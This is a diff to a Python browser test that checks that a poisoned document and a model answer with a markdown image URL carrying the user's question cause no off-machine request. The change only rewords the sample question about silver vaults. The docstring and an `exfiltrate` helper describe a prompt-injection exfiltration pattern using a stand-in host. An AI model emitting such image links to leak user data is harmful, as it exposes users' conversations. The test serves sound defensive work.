@@ -121,7 +121,7 @@ def test_no_request_leaves_the_machine_when_answers_carry_outside_images(browser
     """Quoting a poisoned document and a model answer with `![](https://host/?q=question)` make
     no request off 127.0.0.1: images and links show as text, and the CSP is in force."""
     home = poisoned_home(tmp_path / "home")
-    question = "Why are silver vault inventories falling?"
+    question = "Why are buyers withdrawing silver from vaults?"
 
     def exfiltrate(body: dict) -> dict:
         asked = quote(str(body["messages"][-1].get("content", ""))[:80])
